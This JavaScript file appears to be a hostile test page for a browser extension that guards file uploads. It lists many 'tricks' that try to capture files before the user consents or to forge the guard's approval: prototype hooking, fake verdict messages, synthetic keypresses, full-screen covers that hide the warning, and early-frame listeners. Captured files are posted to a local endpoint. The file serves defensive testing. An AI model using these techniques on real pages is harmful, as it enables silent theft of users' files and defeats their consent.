/*
 * Each trick tries to get at a person's file before the person has answered, or to answer in the person's place. What it
 * got stands in `stolen`. It plays when the page has loaded.
 */
const stolen = [];
const { apply } = Reflect;
const { defineProperty: define, getOwnPropertyDescriptor: describeProperty, getPrototypeOf } = Object;
const tag = Object.prototype.toString;
const nativeThen = Promise.prototype.then;
const NativePromise = Promise;

function steal(how, file) {
  define(stolen, stolen.length, { value: `${how}: ${file.name}`, enumerable: true });
  const line = document.createElement('li');
  line.textContent = `${how}: ${file.name}`;
  document.querySelector('#stolen')?.append(line);
  if (parameters.get('send')) send(file, parameters.get('send'));
}

/** Sends what was stolen, whole or in a form. */
function send(file, how) {
  let body = file;
  if (how === 'form') {
    body = new FormData();
    body.append('up', file);
  }
  void fetch('/sent', { method: 'POST', body }).catch(() => {});
}

/** Takes what it can out of anything: files, lists, events, transfers, inputs, entries, handles; of any frame. */
function look(how, thing, depth = 0) {
  if (thing === null || typeof thing !== 'object' || depth > 5) return;
  const again = (next) => look(how, next, depth + 1);
  const at = (list) => {
    for (let place = 0; place < list.length; place += 1) again(list[place]);
  };
  try {
    switch (apply(tag, thing, [])) {
      case '[object File]':
        return steal(how, thing);
      case '[object FileList]':
      case '[object Array]':
        return at(thing);
      case '[object HTMLInputElement]':
        again(thing.files);
        return again(thing.webkitEntries);
      case '[object DataTransfer]':
        again(thing.files);
        for (let place = 0; place < thing.items.length; place += 1) {
          again(thing.items[place].getAsFile());
          again(thing.items[place].webkitGetAsEntry());
        }
        return;
      case '[object FormData]':
        return thing.forEach(again);
      case '[object Promise]':
        return void apply(nativeThen, thing, [
          (value) => value?.getFile && nativeThen.call(value.getFile(), again),
          () => {},
        ]);
      default:
    }
    if (thing.isFile) thing.file(again);
    else if (thing.isDirectory) thing.createReader().readEntries(again);
    else
      for (const name in { dataTransfer: 0, clipboardData: 0, target: 0, file: 0, entry: 0, handle: 0 })
        again(thing[name]);
  } catch {
    // Not to be looked into.
  }
}
let lookingAround = false;
/** Looks at these and at the event that goes on now, but not at what that itself calls up. */
function lookAround(how, ...things) {
  if (lookingAround) return;
  lookingAround = true;
  for (let place = 0; place < things.length; place += 1) look(how, things[place]);
  look(`${how}, event`, window.event);
  lookingAround = false;
}
/** A property that, each time it is read or written, shows its page what for, and else is as it was. */
function spyOn(target, name) {
  const own = describeProperty(target, name);
  if (own && !own.configurable) return;
  const value = own && 'value' in own ? own.value : undefined;
  define(target, name, {
    configurable: true,
    get() {
      lookAround(`get ${String(name)}`, this);
      return own?.get ? apply(own.get, this, []) : value;
    },
    set(given) {
      lookAround(`set ${String(name)}`, this, given);
      if (own?.set) apply(own.set, this, [given]);
      else define(this, name, { value: given, writable: true, enumerable: true, configurable: true });
    },
  });
}
/** A method that, each time it is called, shows its page what with, and else is as it was. */
function spyOnCalls(target, name) {
  const native = target[name];
  define(target, name, {
    configurable: true,
    writable: true,
    value: new Proxy(native, {
      apply(_native, self, given) {
        lookAround(`call ${String(name)}`, self, ...given);
        return apply(native, self, given);
      },
    }),
  });
}

const zone = document.querySelector('#zone');
const blank = document.querySelector('#blank');
const ACCEPT = (event) => event.preventDefault();
zone.addEventListener('dragover', ACCEPT);
for (const type of ['input', 'change', 'drop', 'paste']) {
  for (const target of [window, document.documentElement])
    target.addEventListener(type, (event) => look(`listener for ${type}`, event), true);
}

/** An input, in no document unless the trick puts it there, opened at a press of the button and looked at ever after. */
function atPress(open, from = document) {
  const made = Object.assign(from.createElement('input'), { type: 'file' });
  made.oninput = made.onchange = () => look('handler', made);
  setInterval(look, 20, 'looking all the time', made);
  document.querySelector('#opener').onclick = () => open(made);
}
/** The page written anew, with an input and a zone of which no listener knows yet. */
const ANEW = '<title>Anew</title><div id="zone" style="border: 2px dashed">Drop</div><input type="file" id="input">';
function watchAnew(root = document) {
  const made = root.querySelector('input');
  made.oninput = made.onchange = () => look('handler', made);
  const made2 = root.querySelector('#zone');
  made2.ondragover = ACCEPT;
  made2.ondrop = (event) => look('handler', event);
}

/** The page's own drag begins here, as the guard sees, and never comes to an end. */
function watchDragStart() {
  window.dragsBegun = 0;
  addEventListener(
    'dragstart',
    (event) => {
      window.dragsBegun += 1;
      event.preventDefault();
    },
    true,
  );
}

/** Something over the whole window that lets every click through; what it is to the page is in its look alone. */
function makeCover(host = document.body) {
  const made = document.createElement('div');
  window.cover = made;
  made.textContent = 'Click where it says so and win';
  made.style.cssText =
    'position: fixed; inset: 0; width: 100%; height: 100%; margin: 0; border: 0; padding: 50vh 0 0; pointer-events: none; background: #ffe9a8; opacity: 0.9; z-index: 2147483647';
  host.append(made);
  return made;
}
/** Does it once, when the warning is in the document. */
function atWarning(act) {
  new MutationObserver((_changes, observer) => {
    const host = document.querySelector('html > div');
    if (!host) return;
    observer.disconnect();
    // After the guard has done what it does at once.
    setTimeout(() => act(host), 100);
  }).observe(document.documentElement, { childList: true });
}
/** What a page may keep to itself of what it shows. */
function keepEvents(...types) {
  for (const type of types) addEventListener(type, (event) => event.stopImmediatePropagation(), true);
}

const parameters = new URLSearchParams(location.search);
const tricks = {
  nothing() {},

  // What the guard's own code might call up on its way.

  'setters of arrays'() {
    for (const place of [0, 1, 2]) spyOn(Array.prototype, place);
  },
  'facts of its own making'() {
    const forge = (value) => (value?.lastModified ? { name: 'a', size: 1, type: '', lastModified: 0 } : value);
    define(Array.prototype, 0, {
      configurable: true,
      set(value) {
        define(this, 0, { value: forge(value), writable: true, enumerable: true, configurable: true });
      },
    });
  },
  'iterators that give nothing'() {
    const { [Symbol.iterator]: native } = Array.prototype;
    atPress((made) => {
      Array.prototype[Symbol.iterator] = function* () {};
      made.addEventListener('input', () => look('listener', made), true);
      made.click();
      Array.prototype[Symbol.iterator] = native;
    });
  },
  'what instanceof asks'() {
    for (const type of [Event, MouseEvent, Node, HTMLElement, Element, DataTransfer])
      spyOnCalls(type, Symbol.hasInstance);
  },
  'getters of events'() {
    const names = {
      [Event.name]: ['type', 'originalTarget', 'isTrusted'],
      [MouseEvent.name]: ['clientX', 'screenX', 'ctrlKey'],
    };
    for (const name in names) for (const each of names[name]) spyOn(window[name].prototype, each);
    for (const each of ['dataTransfer', 'originalTarget', 'signal', 'kept']) spyOn(Object.prototype, each);
  },
  'getters of inputs'() {
    for (const name of ['webkitdirectory', 'multiple', 'disabled', 'form', 'type', 'files'])
      spyOn(HTMLInputElement.prototype, name);
  },
  'methods of all that a drop holds'() {
    for (const type of [DataTransfer, DataTransferItem, DataTransferItemList, FileList, File, Blob, WeakMap, Event]) {
      for (const name of Reflect.ownKeys(type.prototype)) {
        const own = describeProperty(type.prototype, name);
        // The last two: with these a driver makes its drop, and the page takes part in it.
        if (['constructor', 'add', 'preventDefault'].includes(name)) continue;
        if (own.get) spyOn(type.prototype, name);
        else if (typeof own.value === 'function') spyOnCalls(type.prototype, name);
      }
    }
  },
  async 'methods of entries'() {
    const prototypes = new Set();
    if (window.FileSystemEntry) {
      for (const { prototype } of [FileSystemEntry, FileSystemFileEntry, FileSystemDirectoryEntry])
        prototypes.add(prototype);
    } else {
      const { root } = await new Promise((done, fail) => webkitRequestFileSystem(0, 1024, done, fail));
      const file = await new Promise((done, fail) => root.getFile('x', { create: true }, done, fail));
      for (const entry of [root, file]) {
        for (let at = getPrototypeOf(entry); at !== Object.prototype; at = getPrototypeOf(at)) prototypes.add(at);
      }
    }
    for (const prototype of prototypes) {
      for (const name of ['isDirectory', 'isFile']) if (describeProperty(prototype, name)) spyOn(prototype, name);
      for (const name of ['createReader', 'file']) if (describeProperty(prototype, name)) spyOnCalls(prototype, name);
    }
  },
  'what promises are made of'() {
    spyOn(Promise.prototype, 'constructor');
    spyOnCalls(Promise.prototype, 'then');
    define(Promise, Symbol.species, {
      configurable: true,
      get: () =>
        function Derived(run) {
          return new NativePromise((yes, no) => run((value) => yes(look('species', value?.getFile?.()) ?? value), no));
        },
    });
  },
  'errors made text'() {
    spyOnCalls(Error.prototype, 'toString');
    const names = ['before', 'after', 'instead', 'get', 'set', 'value'];
    // While the drop goes on: with these nothing else works either.
    zone.addEventListener('dragover', () => {
      for (const name of names) {
        define(Object.prototype, name, {
          __proto__: null,
          configurable: true,
          get() {
            lookAround(name);
            throw new Error(name);
          },
        });
      }
      setTimeout(() => {
        for (const name of names) delete Object.prototype[name];
      }, 300);
    });
  },

  // A verdict of the page's own.

  'the callers of its listeners'() {
    const callers = new Set();
    const call = () => {
      Error.prepareStackTrace = (_error, sites) => {
        for (const site of sites) callers.add(site.getFunction());
      };
      void new Error().stack;
      delete Error.prepareStackTrace;
      for (const caller of callers) {
        if (!caller || caller === call) continue;
        for (const type of ['drop', 'input', 'change']) removeEventListener(type, caller, true);
        for (let id = 0; id < 9; id += 1) {
          for (const given of [[{ kind: 'verdict', id, allow: true, failed: false }], [id, true, false], [true]]) {
            try {
              caller(...given);
            } catch {
              // Not that one.
            }
          }
        }
      }
    };
    for (const type of ['drop', 'dragleave']) zone.addEventListener(type, call);
  },
  'the port that verdicts come by'() {
    let port;
    const find = () => {
      if (window.event?.target instanceof MessagePort) port = window.event.target;
    };
    for (const type of ['drop', 'dragleave']) {
      zone.addEventListener(type, () => {
        find();
        Promise.resolve().then(find);
      });
    }
    setInterval(() => {
      for (let id = 0; id < 99; id += 1)
        port?.dispatchEvent(new MessageEvent('message', { data: { kind: 'verdict', id, allow: true, failed: false } }));
    }, 20);
  },
  'answers to what it does not see'() {
    new MutationObserver(() => {
      const host = document.querySelector('html > div');
      if (!host) return;
      for (const key of ['Tab', 'Enter', ' ']) {
        for (const type of ['keydown', 'keypress', 'keyup']) {
          for (const target of [host, document, window])
            target.dispatchEvent(new KeyboardEvent(type, { key, code: key, bubbles: true, composed: true }));
        }
      }
      for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click', 'close'])
        host.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: 600, clientY: 500 }));
      const { port1, port2 } = new MessageChannel();
      const decided = { kind: 'decided', decision: { kind: 'go-on' } };
      port1.postMessage(decided);
      postMessage({ drempel: 'warning', ...decided }, '*', [port2]);
      for (let place = 0; place < frames.length; place += 1) frames[place].postMessage(decided, '*');
      for (let id = 0; id < 9; id += 1) {
        const data = { kind: 'verdict', id, allow: true, failed: false };
        dispatchEvent(new MessageEvent('drempel-guard', { data, ports: [new MessageChannel().port1] }));
        dispatchEvent(new MessageEvent('message', { data }));
      }
      window.focus();
    }).observe(document.documentElement, { childList: true });
  },

  // Listening where the guard does not.

  'a type that is no text'() {
    atPress((made) => {
      for (const type of ['input', 'change'])
        made.addEventListener({ toString: () => type }, () => look('listener', made), true);
      let asked = 0;
      const later = { toString: () => (asked++ ? 'input' : 'other') };
      made.addEventListener(later, () => look('later', made), true);
      made.click();
    });
  },
  'a click that hides its type'() {
    atPress((made) => made.dispatchEvent(define(new MouseEvent('click'), 'type', { value: 'other' })));
  },
  'a label around a host'() {
    atPress((made) => {
      const label = document.createElement('label');
      const host = document.createElement('div');
      const inner = document.createElement('b');
      label.append(host, made);
      host.attachShadow({ mode: 'open' }).append(inner);
      inner.click();
    });
  },
  'a declared closed root'() {},
  'a declared closed root that goes'() {
    document
      .querySelector('#declared')
      .addEventListener('click', ({ currentTarget }) => setTimeout(() => currentTarget.remove()));
  },
  'a drag of its own that never ends'() {
    for (const type of ['dragend', 'pointermove', 'pointerdown', 'mousemove', 'mousedown'])
      addEventListener(type, (event) => event.stopImmediatePropagation(), true);
    define(Object.prototype, 'signal', { value: AbortSignal.abort() });
    watchDragStart();
  },
  'a link of its own to a file of yours'() {
    const link = document.createElement('a');
    link.id = 'own';
    link.textContent = 'Drag me, then drop the file that I lead to';
    link.href = `file://${parameters.get('file') ?? '/tmp/jaarplan-2027.docx'}`;
    zone.before(link);
    watchDragStart();
  },
  'a drop that says it holds nothing'() {
    const { files, items } = new DataTransfer();
    /** While a drop goes on, others read this; the page itself reads what is there. */
    const lie = (prototype, name, said) => {
      const own = describeProperty(prototype, name);
      const lies = () => !lookingAround && window.event?.type === 'drop';
      if (own.get)
        define(prototype, name, {
          ...own,
          get() {
            return lies() ? said : apply(own.get, this, []);
          },
        });
      else
        define(prototype, name, {
          ...own,
          value(...given) {
            return lies() ? said : apply(own.value, this, given);
          },
        });
    };
    lie(DragEvent.prototype, 'dataTransfer', null);
    lie(DataTransfer.prototype, 'files', files);
    lie(DataTransfer.prototype, 'items', items);
    lie(DataTransfer.prototype, 'types', []);
    lie(DataTransfer.prototype, 'getData', document.querySelector('#picture').src);
    lie(DataTransferItemList.prototype, 'length', 0);
    lie(DataTransferItem.prototype, 'kind', 'string');
    lie(DataTransferItem.prototype, 'getAsFile', null);
    lie(FileList.prototype, 'length', 0);
    for (const name of ['stopImmediatePropagation', 'stopPropagation', 'preventDefault'])
      lie(Event.prototype, name, undefined);
    for (const target of [window, document, zone])
      target.addEventListener('drop', (event) => lookAround('what it hid', event), true);
  },
  'its document opened by a frame'() {
    const { open, write, close } = blank.contentWindow.Document.prototype;
    apply(open, document, []);
    apply(write, document, [ANEW]);
    apply(close, document, []);
    watchAnew();
  },
  'its document opened and listened to by a frame'() {
    const {
      Document: {
        prototype: { open, write, close },
      },
      addEventListener: listen,
    } = blank.contentWindow;
    apply(open, document, []);
    for (const type of ['drop', 'input']) apply(listen, window, [type, (event) => look('listener', event), true]);
    apply(write, document, [ANEW]);
    apply(close, document, []);
    watchAnew();
  },
  'the document of a frame opened by itself'() {
    apply(Document.prototype.open, blank.contentDocument, []);
    apply(Document.prototype.write, blank.contentDocument, [ANEW]);
    apply(Document.prototype.close, blank.contentDocument, []);
    watchAnew(blank.contentDocument);
  },
  'the click of a frame, and then no frame'() {
    atPress((made) => {
      apply(blank.contentWindow.HTMLElement.prototype.click, made, []);
      blank.remove();
    });
  },
  'the listening of a frame, and then no frame'() {
    atPress((made) => {
      for (const type of ['input', 'change'])
        apply(blank.contentWindow.addEventListener, made, [type, () => look('listener', made), true]);
      blank.remove();
      made.click();
    });
  },
  'the input of a frame, and then no frame'() {
    atPress((made) => {
      document.adoptNode(made);
      made.click();
      blank.remove();
    }, blank.contentDocument);
  },
  'an input copied, moved and sent'() {
    const form = document.querySelector('#form');
    const made = document.querySelector('#in-form');
    form.onformdata = ({ formData }) => look('formdata', formData);
    form.onsubmit = ACCEPT;
    const peek = () => {
      look('input', made);
      look('clone', made.cloneNode(true));
      look('import', document.importNode(made, true));
      look('form', new FormData(form));
      form.requestSubmit();
    };
    setInterval(peek, 20);
    setInterval(() => {
      if (!document.querySelector('html > div')) return;
      const there = blank.contentDocument;
      there.body.append(there.adoptNode(made));
      peek();
      form.append(document.adoptNode(made));
      peek();
    }, 50);
  },

  // Something over the question. What is in place is said in `covered`.

  'a cover in the top layer, and no word of it'() {
    keepEvents('toggle', 'beforetoggle');
    const cover = makeCover();
    cover.popover = 'manual';
    atWarning(() => {
      cover.showPopover();
      window.covered = true;
    });
  },
  'a cover in a closed root'() {
    const host = document.createElement('div');
    document.body.append(host);
    const cover = makeCover(host.attachShadow({ mode: 'closed' }));
    cover.popover = 'manual';
    atWarning(() => {
      cover.showPopover();
      window.covered = true;
    });
  },
  'a cover that comes back'() {
    const cover = makeCover();
    cover.popover = 'manual';
    atWarning(() => {
      setInterval(() => {
        if (!cover.matches(':popover-open')) cover.showPopover();
      }, 5);
      window.covered = true;
    });
  },
  'a dialog of its own'() {
    keepEvents('toggle', 'beforetoggle', 'close', 'cancel', 'focusin');
    const own = document.createElement('dialog');
    own.append('Nothing to see here');
    document.body.append(own);
    atWarning(() => {
      own.showModal();
      window.covered = true;
    });
  },
  'the question moved'() {
    const place = document.createElement('div');
    document.body.append(place);
    const cover = makeCover();
    cover.hidden = true;
    atWarning((host) => {
      place.append(host);
      cover.hidden = false;
      window.covered = true;
    });
  },
  'the whole screen'() {
    keepEvents('fullscreenchange');
    atPress((made) => made.click());
    zone.style.background = '#ffe9a8';
    atWarning(async () => {
      await zone.requestFullscreen();
      window.covered = true;
    });
  },
  'a change of looks that never ends'() {
    const style = document.createElement('style');
    style.textContent = `::view-transition { pointer-events: none; background: #ffe9a8 }
      ::view-transition-group(root) { animation-duration: 9999s }`;
    document.head.append(style);
    atWarning(() => {
      document
        .startViewTransition(() => {})
        .ready.then(() => {
          window.covered = true;
        });
    });
  },

  // A frame that no script of an extension has reached yet.

  'listeners in a frame that is still to load'() {
    const frame = makeFrame();
    document.body.prepend(frame);
    listenEarly(frame.contentWindow);
  },
  'a frame that is reached by its number'() {
    document.body.prepend(makeFrame());
    listenEarly(window[window.length - 1]);
  },
  'a frame that is written, by its number'() {
    document.open();
    document.write(`<iframe src="guard-hostile-frame.html" id="early"></iframe>`);
    document.close();
    listenEarly(window[0]);
  },
  'a frame in place of a frame, by its number'() {
    const range = document.createRange();
    range.selectNode(blank);
    range.deleteContents();
    range.insertNode(makeFrame());
    listenEarly(window[0]);
  },
  'a frame in another frame, by its number'() {
    const there = blank.contentDocument;
    document.body.append(there.body.appendChild(there.createElement('p')));
    there.body.innerHTML = '<iframe src="/guard-hostile-frame.html" id="early"></iframe>';
    listenEarly(blank.contentWindow[0]);
  },
  'an element that looks about while it is made'() {
    customElements.define(
      'x-thief',
      class extends HTMLElement {
        constructor() {
          super();
          listenEarly(window[window.length - 1]);
        }
      },
    );
    const place = document.createElement('div');
    document.body.append(place);
    place.innerHTML = '<iframe src="guard-hostile-frame.html" id="early"></iframe><x-thief></x-thief>';
  },
  'a frame whose page is late'() {
    return listenOnceItIsThere((frame) => frame.contentWindow);
  },
  'a frame whose page is late, by its number'() {
    return listenOnceItIsThere(() => window[window.length - 1]);
  },
  'natives of a frame that the parser brought'() {
    atPress((made) => apply(parsedClick, made, []));
  },
  'natives of a frame that is still to load'() {
    const frame = Object.assign(document.createElement('iframe'), { srcdoc: 'x' });
    document.body.append(frame);
    const { click } = frame.contentWindow.HTMLElement.prototype;
    atPress((made) => apply(click, made, []));
  },
};

const makeFrame = () =>
  Object.assign(document.createElement('iframe'), { src: 'guard-hostile-frame.html', id: 'early' });

/** What a server has only begun to send has a window of its own already, and no script of an extension. */
async function listenOnceItIsThere(find) {
  const frame = makeFrame();
  document.body.prepend(frame);
  await new Promise((resolve) => {
    frame.onload = resolve;
  });
  frame.src = 'guard-hostile-frame.html?late';
  while (!find(frame).document.URL.endsWith('?late')) await new Promise((resolve) => setTimeout(resolve));
  listenEarly(find(frame));
}

function listenEarly(there) {
  there.addEventListener('drempel-guard!', (event) => event.preventDefault());
  for (const type of ['drop', 'input']) there.addEventListener(type, (event) => look('early listener', event), true);
}

const wanted = parameters.get('trick');
for (const name of Object.keys(tricks)) {
  const link = document.createElement('a');
  link.href = `?trick=${encodeURIComponent(name)}`;
  link.textContent = name;
  document.querySelector('#tricks').append(link, ' · ');
}
// Not before: `document.open()` does nothing while the parser runs.
addEventListener('load', () =>
  setTimeout(async () => {
    await tricks[wanted ?? 'nothing']();
    // The trick is set up.
    window.played = true;
  }),
);
